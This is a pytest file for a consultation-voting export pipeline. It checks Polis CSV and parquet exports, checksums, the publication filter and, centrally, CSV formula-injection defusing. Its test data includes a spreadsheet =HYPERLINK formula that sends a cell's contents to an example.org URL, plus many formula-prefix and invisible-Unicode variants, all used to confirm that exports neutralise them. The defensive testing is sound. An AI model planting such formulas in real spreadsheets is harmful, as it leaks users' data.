import csv
import itertools
import json
import random
import unicodedata
from collections import Counter
from hashlib import sha256

import pandas as pd
import pyarrow.parquet
import pytest
from clickhouse_server import insert_consultation, insert_proposals, insert_tallies, insert_votes

from operators.core.errors import TerminalError
from pipelines.exchange.polis_export import export_polis
from pipelines.exchange.polis_import import read_polis
from pipelines.exchange.spreadsheets import is_text
from pipelines.exchange.tables_export import export_tables
from pipelines.periodic.publish import publish


def noon() -> int:
    return 1_780_000_000_000


@pytest.fixture(scope="module")
def votes(clickhouse):
    dice = random.Random(11)
    insert_consultation(clickhouse, "export")
    insert_proposals(clickhouse, "export", ["1", "2", "3"])
    made = [
        {
            "consultation_id": "export",
            "proposal_id": dice.choice("1234"),
            "participant": dice.randrange(1, 40) << 90,
            "choice": dice.choice(["agree", "disagree", "neutral", "withdrawn"]),
            "trust": dice.choice(["trusted", "sequence", "troll"]),
            "cast_ms": 1_780_000_000_000 + dice.randrange(10) * 1000,
        }
        for _ in range(400)
    ]
    insert_votes(clickhouse, made)
    insert_tallies(
        clickhouse,
        [
            {"consultation_id": "export", "proposal_id": "1", "agree": 7, "disagree": 2},
            {"consultation_id": "export", "proposal_id": "2", "country": "DE", "agree": 40},
        ],
    )
    return made


def counted(votes) -> Counter:
    """Current ballots of the trusted series, by hand."""
    latest = {}
    for offset, vote in enumerate(votes):
        key = vote["proposal_id"], vote["participant"]
        rank = vote["cast_ms"], offset
        latest[key] = max(latest.get(key, (rank, vote)), (rank, vote), key=lambda pair: pair[0])
    return Counter(
        (vote["proposal_id"], vote["choice"])
        for _, vote in latest.values()
        if vote["choice"] != "withdrawn" and vote["trust"] != "troll"
    )


def test_the_polis_layout_comes_back_through_the_importer_with_equal_counts(
    clickhouse, votes, tmp_path
):
    export_polis(clickhouse, "export", tmp_path / "out", noon)
    found = read_polis(tmp_path / "out", "again")
    assert Counter((vote["proposal_id"], vote["choice"]) for vote in found.votes) == counted(votes)
    assert {p["proposal_id"]: p["status"] for p in found.proposals} == dict.fromkeys(
        "123", "accepted"
    )


def test_the_polis_layout_agrees_with_itself(clickhouse, votes, tmp_path):
    export_polis(clickhouse, "export", tmp_path / "out", noon)
    with (tmp_path / "out" / "votes.csv").open() as lines:
        cast = Counter((row["voter-id"], row["comment-id"]) for row in csv.DictReader(lines))
    assert max(cast.values()) == 1
    with (tmp_path / "out" / "participants-votes.csv").open() as lines:
        matrix = list(csv.DictReader(lines))
    assert sum(int(row["n-votes"]) for row in matrix) == sum(cast.values())
    with (tmp_path / "out" / "comments.csv").open() as lines:
        for row in csv.DictReader(lines):
            column = [line[row["comment-id"]] for line in matrix]
            assert (column.count("1"), column.count("-1")) == (
                int(row["agrees"]),
                int(row["disagrees"]),
            )


def test_tables_carry_their_schema_and_their_checksums(clickhouse, votes, tmp_path):
    folder = tmp_path / "out"
    export_tables(clickhouse, "export", folder, "marts", noon)
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["consultation_id"] == "export"
    assert {file["file"] for table in manifest["tables"] for file in table["files"]} | {
        "manifest.json"
    } == {file.name for file in folder.iterdir()}
    for table in manifest["tables"]:
        for file in table["files"]:
            content = (folder / file["file"]).read_bytes()
            assert (len(content), sha256(content).hexdigest()) == (file["bytes"], file["sha256"])
    [board] = [table for table in manifest["tables"] if table["view"] == "marts.leaderboard"]
    assert board["rows"] == 3
    assert board["methods"]
    assert all(column["about"] for column in board["columns"])
    parquet = pyarrow.parquet.read_table(folder / "leaderboard.parquet").to_pylist()
    with (folder / "leaderboard.csv").open() as lines:
        rows = list(csv.DictReader(lines))
    assert [row["proposal_id"] for row in rows] == [row["proposal_id"] for row in parquet]
    assert {row["proposal_id"]: row["votes"] for row in parquet} == {"1": 9, "2": 40, "3": 0}


def test_the_public_export_holds_what_has_been_published_and_nothing_else(
    clickhouse, votes, tmp_path
):
    publish(clickhouse, noon() + 60_000)
    manifest = export_tables(clickhouse, "export", tmp_path / "out", "open", noon)
    assert {table.view.partition(".")[0] for table in manifest.tables} == {"open"}
    [board] = [table for table in manifest.tables if table.view == "open.leaderboard"]
    with (tmp_path / "out" / "leaderboard.csv").open() as lines:
        shown = {row["proposal_id"]: int(row["votes"]) for row in csv.DictReader(lines)}
    truth = counted(votes)
    assert board.rows == len(shown)
    assert any(shown.values())
    for proposal, public in shown.items():
        everyone = sum(n for (name, _), n in truth.items() if name == proposal)
        assert 0 <= public <= everyone


def test_two_exports_of_one_cut_have_equal_checksums(clickhouse, votes, tmp_path):
    one, other = (
        export_tables(clickhouse, "export", tmp_path / name, "marts", noon) for name in "ab"
    )
    assert one == other


def test_an_export_writes_nothing_over_anything(clickhouse, votes, tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "mine").write_text("mine")
    with pytest.raises(TerminalError, match="not empty"):
        export_tables(clickhouse, "export", tmp_path / "out", "marts", noon)
    assert [file.name for file in tmp_path.iterdir()] == ["out"]


def test_an_unknown_consultation_leaves_no_folder(clickhouse, tmp_path):
    with pytest.raises(TerminalError, match="no consultation nobody"):
        export_tables(clickhouse, "nobody", tmp_path / "out", "marts", noon)
    assert list(tmp_path.iterdir()) == []


ATTACK = '=HYPERLINK("https://example.org/?"&A1,"look")'
FORMULAS = [
    *(ATTACK, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "=", "-", '"=1"', "'=1", " =1", "1-1"),
    *("a,=1", 'a";=1', "line\n=1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)"),
    *(
        "  \uff1d1",
        "\ufeff=1+1",
        "\u200b\u2060@SUM(1)",
        "\u3000\u00a0+1",
        "\u2067\u00ad-1",
        " \n \t=1",
    ),
    *("\u200bword", "\ufeff1\uff1d1", "  1+1", "-"),
]
INVISIBLE = {"Zs", "Zl", "Zp", "Cf"}


def is_run(cell):
    """Whether a spreadsheet runs a cell, by Python's Unicode rather than by ClickHouse's."""
    shown = "".join(itertools.dropwhile(lambda c: unicodedata.category(c) in INVISIBLE, cell))
    return shown[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20\t\r\n") - {""}


@pytest.fixture(scope="module")
def formulas(clickhouse):
    """Each as the text of a proposal; ids may begin with a hyphen too."""
    insert_consultation(clickhouse, "sheet", {"FR": 1.5, "DE": 2})
    names = [f"{'-' if n % 3 == 0 else ''}p{n}" for n in range(len(FORMULAS))]
    clickhouse.insert(
        "proposals",
        [
            ["sheet", name, text, "en", "FR" if n % 2 else "", "accepted", n, n]
            for n, (name, text) in enumerate(zip(names, FORMULAS, strict=True))
        ],
        column_names=[
            *("consultation_id", "proposal_id", "text", "language", "country", "status"),
            *("submitted_ms", "origin_offset"),
        ],
        database="tutti",
    )
    insert_votes(
        clickhouse,
        [
            {"consultation_id": "sheet", "proposal_id": name, "participant": person << 90,
             "choice": ["agree", "disagree", "neutral"][(n + person) % 3]}
            for n, name in enumerate(names[:-2])
            for person in range(1, 12)
        ],
        first_offset=90_000,
    )  # fmt: skip
    insert_tallies(
        clickhouse,
        [
            {"consultation_id": "sheet", "proposal_id": name, "agree": n, "disagree": 40 - n}
            for n, name in enumerate(names[:-2])
        ],
    )
    publish(clickhouse, noon() + 120_000)
    return dict(zip(names, FORMULAS, strict=True))


def rows_of(file):
    with file.open(newline="", encoding="utf-8") as lines:
        return list(csv.DictReader(lines))


@pytest.mark.parametrize("database", ["marts", "open"])
def test_no_cell_of_any_csv_is_run_numbers_stay_numbers_and_parquet_is_exact(
    clickhouse, formulas, tmp_path, database
):
    manifest = export_tables(clickhouse, "sheet", tmp_path / "csv", database, noon)
    raw = export_tables(clickhouse, "sheet", tmp_path / "raw", database, noon, raw=True)
    assert manifest.csv.defused
    assert "apostrophe" in manifest.csv.about
    assert not raw.csv.defused
    defused = nulls = numbers = 0
    for table in manifest.tables:
        name = table.view.partition(".")[2]
        kinds = {column["name"]: column["type"] for column in table.columns}
        text, exact = (
            rows_of(tmp_path / "csv" / f"{name}.csv"),
            rows_of(tmp_path / "raw" / f"{name}.csv"),
        )
        parquet = pyarrow.parquet.read_table(tmp_path / "csv" / f"{name}.parquet").to_pylist()
        assert len(text) == len(exact) == len(parquet) == table.rows
        frame = pd.read_csv(tmp_path / "csv" / f"{name}.csv")
        for column, kind in kinds.items() if table.rows else ():
            if any(number in kind for number in ("Int", "Float", "Decimal")) and "(" not in (
                kind.replace("Nullable(", "")
            ):
                assert frame[column].dtype.kind in "iuf", (table.view, column)
                numbers += 1
        for cells, raws, values in zip(text, exact, parquet, strict=True):
            for column, cell in cells.items():
                value = values[column]
                if value is None:
                    assert cell == raws[column] == ""
                    nulls += 1
                elif is_text(kinds[column]):
                    assert raws[column] == value
                    assert cell == (f"'{value}" if is_run(value) else value)
                    assert not is_run(cell)
                    defused += cell != value
                else:
                    assert cell == raws[column]
    assert defused > len(formulas) / 2
    assert nulls
    assert numbers > 10


def test_the_polis_layout_is_defused_and_raw_comes_back_as_it_was(clickhouse, formulas, tmp_path):
    export_polis(clickhouse, "sheet", tmp_path / "csv", noon)
    manifest = export_polis(clickhouse, "sheet", tmp_path / "raw", noon, raw=True)
    assert json.loads((tmp_path / "csv" / "manifest.json").read_text())["csv"]["defused"]
    assert not manifest.csv.defused
    for file in ("comments.csv", "votes.csv", "participants-votes.csv"):
        with (tmp_path / "csv" / file).open(newline="") as lines:
            for row in csv.reader(lines):
                for cell in row:
                    assert not is_run(cell) or cell == "-1", (file, cell)
    assert {row["comment-body"] for row in rows_of(tmp_path / "csv" / "comments.csv")} == {
        f"'{text}" if is_run(text) else text for text in FORMULAS
    }
    back = read_polis(tmp_path / "raw", "again")
    texts = {p["proposal_id"]: p["text"].replace("\r", "\n") for p in back.proposals}
    assert texts == {name: text.replace("\r", "\n") for name, text in formulas.items()}
    assert {vote["proposal_id"] for vote in back.votes} <= set(formulas)


def test_what_is_about_the_consultation_itself_comes_back_as_such(clickhouse, votes, tmp_path):
    insert_consultation(clickhouse, "export-meta")
    insert_proposals(clickhouse, "export-meta", ["1"])
    insert_proposals(clickhouse, "export-meta", ["2"], meta=True)
    export_polis(clickhouse, "export-meta", tmp_path / "out", noon)
    found = read_polis(tmp_path / "out", "again")
    assert {p["proposal_id"]: p.get("meta", False) for p in found.proposals} == {
        "1": False,
        "2": True,
    }
